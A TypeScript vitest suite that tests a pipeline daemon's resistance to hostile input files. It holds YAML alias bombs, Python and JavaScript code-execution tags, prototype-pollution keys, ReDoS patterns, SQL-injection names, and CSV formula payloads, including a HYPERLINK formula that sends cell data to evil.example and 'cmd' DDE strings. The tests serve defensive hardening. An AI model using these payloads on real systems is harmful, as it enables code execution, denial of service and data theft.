import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ApiError } from '../../daemon/protocol/errors.ts';
import type { Operation } from '../../daemon/protocol/entities.ts';
import { startProjectDaemon, type ProjectDaemon } from '../support/projectDaemon.ts';
import { shopProject } from '../support/shopProject.ts';

let shop: ProjectDaemon;

beforeAll(async () => {
  shop = await startProjectDaemon(shopProject);
});
afterAll(() => shop.dispose());

async function operations(job_id: string): Promise<Operation[]> {
  return (await shop.daemon.client.call('jobs/operations', { job_id })).operations;
}

/** A pipeline in a file of its own, and a batch of it. */
function writePipeline(pipeline_id: string, pipeline: object) {
  shop.write(`pipelines/${pipeline_id}.pipeline.yaml`, JSON.stringify({ pipeline_id, ...pipeline }));
  return { job_name: pipeline_id, pipelines: [{ pipeline_id }] };
}

const laughs = [
  'a: &a [x, x, x, x, x, x, x, x, x]',
  ...Array.from('bcdefghi', (name, at) => {
    const before = 'abcdefgh'[at];
    return `${name}: &${name} [${Array.from({ length: 9 }, () => `*${before}`).join(', ')}]`;
  }),
].join('\n');

describe('a file that is made to hurt its reader', () => {
  const bombs: readonly (readonly [string, string])[] = [
    ['a billion laughs', `${laughs}\npipelines: *i\n`],
    [
      'a billion laughs by merge keys',
      `${laughs.replaceAll('[', '{<<: [').replaceAll(']', ']}')}\npipelines: *i\n`,
    ],
    ['an alias of itself', 'pipelines: &p [*p]\n'],
    ['an alias of nothing', 'pipelines: *p\n'],
    ['a hundred thousand brackets', `pipelines: ${'['.repeat(100_000)}`],
    ['a hundred thousand levels of braces', `pipelines: ${'{a: '.repeat(100_000)}`],
    ['levels by indentation', Array.from({ length: 3_000 }, (_, at) => `${' '.repeat(at)}a:`).join('\n')],
    ['a tag of another language', 'pipelines: !!python/object/apply:os.system ["touch x"]\n'],
    ['a tag of JavaScript', 'pipelines: !!js/function "function () { process.exit() }"\n'],
    [
      'keys of the prototype',
      '__proto__: { pipelines: [] }\nconstructor: { prototype: { x: 1 } }\npipelines: []\n',
    ],
    ['NUL bytes', 'pipelines: ["\0same"]\n'],
    ['half of a pair of UTF-16', 'job_name: "\\ud800"\npipelines: [{ pipeline_id: "\\udc00" }]\n'],
    ['one line of five million characters', `job_name: ${'x'.repeat(5_000_000)}\npipelines: []\n`],
    [
      'a number of a million digits',
      `pipelines: [{ pipeline_id: same }]\nmax_parallel: ${'9'.repeat(1_000_000)}\n`,
    ],
    [
      'a duration of a million digits',
      `pipelines: [{ pipeline_id: same }]\ntimeout: ${'9'.repeat(1_000_000)}m\n`,
    ],
    ['two hundred thousand keys', Array.from({ length: 200_000 }, (_, at) => `k${at}: 1`).join('\n')],
  ];
  it.each(bombs)('%s is answered with what is wrong, and nothing runs', async (_what, text) => {
    const { client } = shop.daemon;
    const before = (await client.call('jobs/list', {})).total;
    const file = shop.write('bomb.batch.yaml', text);
    const error: unknown = await client.call('jobs/submit', { file }).catch((reason: unknown) => reason);
    expect(ApiError.is(error, 'definition_invalid'), String(error)).toBe(true);
    const { diagnostics = [] } = (error as ApiError).data as { diagnostics?: { message: string }[] };
    expect(diagnostics.length).toBeGreaterThan(0);
    expect(JSON.stringify((error as ApiError).data).length).toBeLessThan(1_000_000);
    expect((await client.call('jobs/list', {})).total).toBe(before);
    expect((await client.call('daemon/status', {})).status).toBe('ready');
  });

  it('changes no object of the daemon by its keys', async () => {
    const text =
      '{"job_name": "x", "pipelines": [{"pipeline_id": "same"}], "__proto__": {"max_parallel": 63}}';
    const file = shop.write('proto.batch.json', text);
    const error: unknown = await shop.daemon.client
      .call('jobs/submit', { file })
      .catch((reason: unknown) => reason);
    expect(ApiError.is(error, 'definition_invalid'), String(error)).toBe(true);
    const job = await shop.run('green.batch.yaml');
    expect([job.status, job.max_parallel]).not.toContain(63);
  });
});

describe('a pattern that takes for ever elsewhere', () => {
  it('ends here: patterns are run in linear time, and one that cannot be is a mistake', async () => {
    shop.write('data/old/long.csv', `id,code\n1,${'a'.repeat(100_000)}!\n`);
    const check = (pattern: string) =>
      writePipeline('long', {
        source: { connection: 'old', table: 'long.csv' },
        target: { connection: 'old', table: 'long.csv' },
        keys: ['id'],
        checks: [{ regex: { column: 'code', pattern } }],
      });
    for (const pattern of ['(a+)+$', '(a|aa)+$', '(.*a){25}', '^(([a-z])+.)+[A-Z]([a-z])+$']) {
      const job = await shop.run(check(pattern));
      const [found] = await operations(job.job_id);
      expect(found?.error?.kind, `${pattern}: ${found?.error?.message}`).toMatch(
        /^(checks_failed|undefined)$/,
      );
    }
    const { job_id } = await shop.run(check('(a)\\1'));
    const [found] = await operations(job_id);
    expect([found?.status, found?.error?.kind]).toEqual(['failed', 'definition']);
  });
});

describe('names that end a statement', () => {
  const names = [
    'x"; drop table victim; --',
    "x'; drop table victim; --",
    'x`; drop table victim; --',
    'x]]; --',
    'x\\"',
  ];

  it('of tables and columns are names and nothing else, in checks, metadata and generation', async () => {
    const path = join(shop.dir, 'data', 'names.duckdb');
    const quoted = (name: string): string => `"${name.replaceAll('"', '""')}"`;
    const instance = await DuckDBInstance.create(path);
    const connection = await instance.connect();
    await connection.run('create table victim as select 42 as answer');
    for (const name of names)
      await connection.run(`create table ${quoted(name)} as select 1 as ${quoted(name)}, 'v' as v`);
    connection.closeSync();
    instance.closeSync();
    shop.write(
      'ombudsman.yaml',
      `${shopProject['ombudsman.yaml']}  names: { type: duckdb, path: data/names.duckdb }\n`,
    );
    const inFile = (at: number, name: string) =>
      writePipeline(`names_${at}`, {
        source: { connection: 'names', table: quoted(name) },
        target: { connection: 'names', table: quoted(name) },
        keys: [name],
        checks: [
          ...['row_count', 'unique_key', 'row_hash'],
          { column_stats: { columns: [name], stats: ['sum', 'min'] } },
        ],
      }).pipelines[0];
    const job = await shop.run({
      job_name: names[0],
      operations: [
        ...names.map((name, at) => ({ type: 'pipeline', name, ...inFile(at, name) })),
        { type: 'metadata_extraction', name: 'catalog', connection: 'names', profile: true },
      ],
    });
    const found = await operations(job.job_id);
    expect(found.map(({ name, status, error }) => [name, status, error?.message])).toEqual(
      found.map(({ name }) => [name, 'completed', undefined]),
    );
    expect(found).toHaveLength(names.length + 1);
    const after = await DuckDBInstance.create(path, { access_mode: 'READ_ONLY' });
    const reader = await after.connect();
    expect((await reader.runAndReadAll('select answer from victim')).getRows()).toEqual([[42]]);
    reader.closeSync();
    after.closeSync();
  });
});

describe('what a spreadsheet would run', () => {
  it('is text in every CSV file that is written', async () => {
    const formulas = [
      '=HYPERLINK("http://evil.example/?"&A1;"x")',
      '+1+cmd|" /C calc"!A0',
      '-2+3+cmd|" /C calc"!A0',
      '@SUM(1+1)',
      '\t=1+1',
      '＝1+1',
    ];
    const rows = (last: string) =>
      `id,text\n${formulas.map((text, at) => `${at},"${text.replaceAll('"', '""')}${last}"`).join('\n')}\n`;
    shop.write('data/old/formulas.csv', rows(''));
    shop.write('data/new/formulas.csv', rows('.'));
    const job = await shop.run({
      ...writePipeline('formulas', {
        source: { connection: 'old', table: 'formulas.csv' },
        target: { connection: 'new', table: 'formulas.csv' },
        keys: ['text'],
        checks: ['row_hash'],
      }),
      job_name: formulas[0],
    });
    const { client } = shop.daemon;
    const [first] = await operations(job.job_id);
    const differences = first?.artifacts.find(({ kind }) => kind === 'differences');
    const file = join(shop.dir, 'exported.csv');
    await client.call('artifacts/export', {
      job_id: job.job_id,
      operation_id: first?.operation_id ?? '',
      artifact_id: differences?.artifact_id ?? '',
      file,
    });
    const { content } = await client.call('jobs/export', { job_id: job.job_id, format: 'csv' });
    const written = (first?.artifacts ?? []).filter(({ path }) => path.endsWith('.csv'));
    expect(written).toHaveLength(1);
    const texts = [
      content,
      readFileSync(file, 'utf8'),
      ...written.map(({ path }) => readFileSync(path, 'utf8')),
    ];
    for (const text of texts) {
      expect(text).toMatch(/HYPERLINK|SUM/);
      // A cell begins with the file, a comma or a line, and perhaps a quotation mark.
      expect(text.match(/(^|,|\n)"?[=+\-@\t＝][^,\n]*[A-Za-z(][^,\n]*/g) ?? []).toEqual([]);
    }
  });
});
